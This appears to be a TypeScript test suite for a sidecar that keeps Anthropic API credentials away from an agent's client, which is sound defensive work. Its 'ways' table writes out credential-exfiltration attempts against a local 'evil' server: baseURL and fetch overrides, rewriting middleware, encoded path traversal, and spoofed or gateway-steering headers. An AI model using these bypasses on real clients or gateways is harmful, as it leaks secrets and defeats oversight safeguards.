import type Anthropic from '@anthropic-ai/sdk'
import type { Middleware as SdkMiddleware } from '@anthropic-ai/sdk'
import type { Context } from '../../lib/core/types.js'
import { createSidecar } from '../../lib/sidecar.js'
import { type MessagesServer, startServer } from '../support/messages-server.js'
import { script } from '../support/script.js'
import { ask, failure, key } from './mounts.js'

const gatewaySecret = 'gateway-secret-of-this-test'
const envSecret = 'env-secret-of-this-test'
const webhookSecret = 'whsec_b2YgdGhpcyB0ZXN0'
const secrets = [key, gatewaySecret, envSecret, webhookSecret]

const environment = {
  ANTHROPIC_CUSTOM_HEADERS: `x-env-secret: ${envSecret}\nauthorization: Bearer ${key}`,
  ANTHROPIC_WEBHOOK_SIGNING_KEY: webhookSecret,
  ANTHROPIC_API_KEY: key,
}

let pinned: MessagesServer
let evil: MessagesServer
let passes: number
const before = { ...process.env }

async function counted(_: Context, next: () => Promise<void>): Promise<void> {
  passes++
  await next()
}

function sidecar() {
  return createSidecar({
    agent: { name: 'probe', send: async (message: string) => message },
    use: [counted],
    claude: { baseURL: `${pinned.url}/gate/way`, headers: { 'X-Gateway': gatewaySecret } },
  })
}

beforeEach(async () => {
  Object.assign(process.env, environment)
  pinned = await startServer(script.text('hello'))
  evil = await startServer(script.text('I am evil'))
  passes = 0
})

afterEach(async () => {
  process.env = { ...before }
  await pinned.close()
  await evil.close()
})

const bears = (text: string) => secrets.some(secret => text.includes(secret))
const bearing = (server: MessagesServer) => server.requests.filter(request => bears(JSON.stringify(request)))

/** Hands out what `Headers` would not hold. */
class Odd extends Headers {
  override *[Symbol.iterator](): HeadersIterator<[string, string]> {
    for (const name of ['Host', 'Authorization', 'X-Api-Key', 'Cookie', 'X-Gateway', 'X-Forwarded-Host', 'X-Portkey-Custom-Host'])
      yield [name, 'theirs']
    yield ['Anthropic-Beta', 'fast-mode-2026-02-01']
  }
}

const ways: Record<string, (claude: Anthropic) => Promise<unknown>> = {
  'plain use': claude => claude.messages.create(ask),
  'emptying the list of middleware': claude => {
    ;(claude.middleware as unknown[]).length = 0
    return claude.messages.create(ask)
  },
  'withOptions({ middleware: [] })': claude => claude.withOptions({ middleware: [] }).messages.create(ask),
  'a middleware of the request that rewrites': claude =>
    claude.messages.create(ask, {
      middleware: [
        (request, next) =>
          next({ ...request, url: `${evil.url}/v1/messages`, body: '{"model":"claude-haiku-4-5","max_tokens":1,"messages":[]}' }),
      ],
    }),
  'a middleware of the request that repeats': claude => claude.messages.create(ask, { middleware: [twice] }),
  'withOptions({ fetch })': claude =>
    claude.withOptions({ fetch: ((_: string, init: RequestInit) => fetch(`${evil.url}/v1/messages`, init)) as never }).messages.create(ask),
  'an assigned fetch': claude => {
    const own = claude.withOptions({})
    ;(own as any).fetch = (_: string, init: RequestInit) => fetch(`${evil.url}/v1/messages`, init)
    return own.messages.create(ask)
  },
  'withOptions({ baseURL })': claude => claude.withOptions({ baseURL: evil.url }).messages.create(ask),
  'withOptions({ baseURL }) with a path': claude => claude.withOptions({ baseURL: `${evil.url}/v1/files?x=` }).messages.create(ask),
  'withOptions({ baseURL }) with the prefix of the pinned one': claude =>
    claude.withOptions({ baseURL: `${evil.url}/gate/way` }).messages.create(ask),
  'an assigned baseURL': claude => {
    const own = claude.withOptions({})
    own.baseURL = `${evil.url}/`
    return own.messages.create(ask)
  },
  'withOptions({ fetchOptions })': claude => claude.withOptions({ fetchOptions: { redirect: 'follow' } as never }).messages.create(ask),
  'withOptions({ credentials })': claude =>
    claude.withOptions({ credentials: async () => ({ token: 'theirs', expiresAt: null }) as never }).messages.create(ask),
  'the constructor of the client': claude => new (claude.constructor as typeof Anthropic)().messages.create(ask),
  'the constructor of the client, with options': claude =>
    new (claude.constructor as typeof Anthropic)({ baseURL: evil.url, apiKey: 'theirs' }).messages.create(ask),
  'headers of their own': claude =>
    claude
      .withOptions({ defaultHeaders: { authorization: 'Bearer theirs', 'x-api-key': 'theirs', 'x-gateway': 'theirs' } })
      .messages.create(ask),
  'headers of the request': claude =>
    claude.messages.create(ask, { headers: { Authorization: 'Bearer theirs', 'X-Api-Key': 'theirs', Host: 'evil', Cookie: 'theirs' } }),
  'headers that spell their names as they like': claude =>
    claude.messages.create(ask, { middleware: [(request, next) => next({ ...request, headers: new Odd() })] }),
  'request() with a whole URL': claude => claude.request({ method: 'post', path: `${evil.url}/v1/messages`, body: ask }),
  'request() with a whole URL of an unlisted endpoint': claude =>
    claude.request({ method: 'post', path: `${evil.url}/v1/messages/batches`, body: {} }),
  'a path with dots': claude => claude.request({ method: 'post', path: '/v1/messages/../messages/batches', body: ask }),
  'a path with encoded dots': claude => claude.request({ method: 'get', path: '/v1/models/%2e%2e/files', body: undefined }),
  'a path with an encoded slash': claude => claude.request({ method: 'post', path: '/v1/messages%2fbatches', body: ask }),
  'a path with two slashes': claude => claude.request({ method: 'post', path: '//v1/messages', body: ask }),
  batches: claude => claude.messages.batches.list(),
  'creating batches': claude => claude.messages.batches.create({ requests: [{ custom_id: 'a', params: ask }] }),
  files: claude => claude.beta.files.list(),
  'the fetch of the client, called by hand': claude =>
    (claude as any)
      .fetch(`${evil.url}/v1/messages`, { method: 'POST', body: JSON.stringify(ask) })
      .then((response: Response) => response.json()),
  'the fetch of the client, with a Request': claude =>
    (claude as any)
      .fetch(new Request(`${evil.url}/v1/messages`, { method: 'POST', body: JSON.stringify(ask) }))
      .then((response: Response) => response.json()),
  'the fetch of the client, with a URL and a stream for a body': claude =>
    (claude as any)
      .fetch(new URL(`${evil.url}/v1/messages`), { method: 'POST', body: new Blob([JSON.stringify(ask)]).stream(), duplex: 'half' })
      .then((response: Response) => response.json()),
}

const twice: SdkMiddleware = async (request, next) => {
  await next(request)
  return next(request)
}

const result = (work: Promise<unknown>) =>
  work.then(
    value => value,
    error => error,
  )

// What every module of the process can reach anyway.
const beyond = new Set<unknown>([process, process.env, globalThis, console])

/** Everything that can be reached by properties, prototypes, symbols and iteration. */
function reachable(root: unknown): string[] {
  const seen = new Set<unknown>()
  const queue: [unknown, string][] = [[root, '']]
  const found: string[] = []
  while (queue.length > 0) {
    if (seen.size > 20_000) throw new Error(`this leads too far: ${queue.at(-1)![1]}`)
    const [value, path] = queue.pop()!
    if (typeof value === 'string' && bears(value)) found.push(path)
    if ((typeof value !== 'object' && typeof value !== 'function') || value === null || seen.has(value)) continue
    if (beyond.has(value) || ArrayBuffer.isView(value)) continue
    seen.add(value)
    queue.push([Object.getPrototypeOf(value), `${path}.__proto__`])
    if (value instanceof Headers || value instanceof Map || value instanceof Set)
      queue.push([[...(value as Iterable<unknown>)], `${path}[*]`])
    for (const name of Reflect.ownKeys(value)) {
      const descriptor = Object.getOwnPropertyDescriptor(value, name)!
      if (bears(String(name))) found.push(`${path}.${String(name)}`)
      queue.push([descriptor.value ?? descriptor.get, `${path}.${String(name)}`])
    }
  }
  return found
}

describe('the bypasses', () => {
  it.each(Object.entries(ways))('%s: no credential goes round the chain', async (_, way) => {
    const own = sidecar()
    const given = await result(Promise.resolve(own.io.claude).then(way))
    expect(bearing(evil)).toEqual([])
    expect(bearing(pinned)).toHaveLength(pinned.requests.length)
    expect(pinned.requests.filter(({ path }) => path === '/gate/way/v1/messages')).toHaveLength(pinned.requests.length)
    expect(passes).toBe(pinned.requests.length)
    expect(reachable(given)).toEqual([])
  })

  it('reach the pinned server with what the seam holds, and nothing of theirs', async () => {
    await sidecar()
      .io.claude.messages.create(ask, {
        headers: { Authorization: 'Bearer theirs', 'X-Api-Key': 'theirs', 'X-Gateway': 'theirs', Cookie: 'theirs', Host: 'theirs' },
      })
      .catch(() => {})
    const [request] = pinned.requests
    expect(request!.headers).toMatchObject({ authorization: `Bearer ${key}`, 'x-gateway': gatewaySecret, 'x-env-secret': envSecret })
    expect(JSON.stringify(request!.headers)).not.toContain('theirs')
  })

  it('shows the chain every beta that is sent, however the header is spelt', async () => {
    const betas: unknown[] = []
    const own = createSidecar({
      agent: { name: 'probe', send: async (message: string) => message },
      use: [
        async (ctx, next) => {
          betas.push((ctx.action as { readonly betas?: unknown }).betas)
          await next()
        },
      ],
      claude: { apiKey: key, baseURL: pinned.url },
    })
    await own.io.claude.messages.create(ask, { middleware: [(request, next) => next({ ...request, headers: new Odd() })] })
    expect(betas).toEqual([['fast-mode-2026-02-01']])
    expect(pinned.requests[0]!.headers).toMatchObject({ authorization: `Bearer ${key}`, 'anthropic-beta': 'fast-mode-2026-02-01' })
    expect(JSON.stringify(pinned.requests[0]!.headers)).not.toContain('theirs')
  })

  it('lets no header and no query through that could steer a gateway which holds the credential', async () => {
    const steering = { 'X-Forwarded-Host': 'evil', 'X-Http-Method-Override': 'DELETE', 'X-Portkey-Custom-Host': evil.url, Trailer: 'x' }
    await sidecar()
      .io.claude.beta.messages.create({ ...ask, betas: ['a-beta'] }, { headers: steering, query: { beta: true, upstream: evil.url } })
      .catch(() => {})
    const [{ headers, url }] = pinned.requests as any
    expect(url).toBe('/gate/way/v1/messages?beta=true')
    expect(JSON.stringify(headers)).not.toMatch(/evil|DELETE|trailer/)
    expect(headers['anthropic-beta']).toContain('a-beta')
  })

  it('sends what the chain has seen: a key that stands twice in the body is read once', async () => {
    const seen: unknown[] = []
    const own = createSidecar({
      agent: { name: 'probe', send: async (message: string) => message },
      use: [
        async (ctx, next) => {
          seen.push(ctx.action)
          await next()
        },
      ],
      claude: { apiKey: key, baseURL: pinned.url },
    })
    const body = '{"model":"claude-haiku-4-5","max_tokens":9,"messages":[],"max_tokens":7}'
    await (own.io.claude as any).fetch(`${pinned.url}/v1/messages`, { method: 'POST', body })
    expect(pinned.requests[0]!.bodyText).toBe('{"model":"claude-haiku-4-5","max_tokens":7,"messages":[]}')
    expect(seen).toMatchObject([{ maxTokens: 7, request: { max_tokens: 7 } }])
  })
})

describe('what the agent is given', () => {
  it('is searched by something that finds', () => {
    expect(reachable({ deep: new Map([[1, { [Symbol('hidden')]: key }]]) })).toHaveLength(1)
    expect(reachable(Object.create({ inherited: [`Bearer ${key}`] }))).toHaveLength(1)
    expect(reachable(new Headers({ authorization: key }))).toHaveLength(1)
  })

  it('does not lead to a credential, by whatever property', async () => {
    const own = sidecar()
    const io = own.io
    void io.claude
    expect(reachable(own.io.claude)).toEqual([])
    expect(reachable(own.io.claude.withOptions({ maxRetries: 0 }))).toEqual([])
    expect(reachable(io)).toEqual([])
  })

  it('nor does the call of a send, an answer or an error', async () => {
    const found: string[] = []
    const errors = await startServer(script.fail({ status: 401 }))
    const own = createSidecar({
      agent: {
        name: 'probe',
        async send(_: string, call) {
          const error = await failure(call.claude.messages.create(ask))
          const response = await result(call.claude.messages.create({ ...ask, stream: true }).asResponse())
          const lost = await failure(call.claude.withOptions({ baseURL: 'http://127.0.0.1:1/x' }).messages.create(ask))
          found.push(...[call, error, response, lost].flatMap(reachable))
          return 'done'
        },
      },
      use: [],
      claude: { baseURL: errors.url, headers: { 'X-Gateway': gatewaySecret } },
    })
    await own.send('look')
    expect(found).toEqual([])
    await errors.close()
  })

  it('nor does the text of an apiKey function that fails', async () => {
    const own = createSidecar({
      agent: { name: 'probe', send: async (message: string) => message },
      use: [],
      claude: { apiKey: () => Promise.reject(new Error(`vault says ${key}`)), baseURL: pinned.url },
    })
    const error = await failure(own.io.claude.messages.create(ask))
    expect(error).toMatchObject({ code: 'ERR_CONFIG', message: 'claude.apiKey() failed with Error' })
    expect(reachable(error)).toEqual([])
    expect(pinned.requests).toHaveLength(0)
  })
})
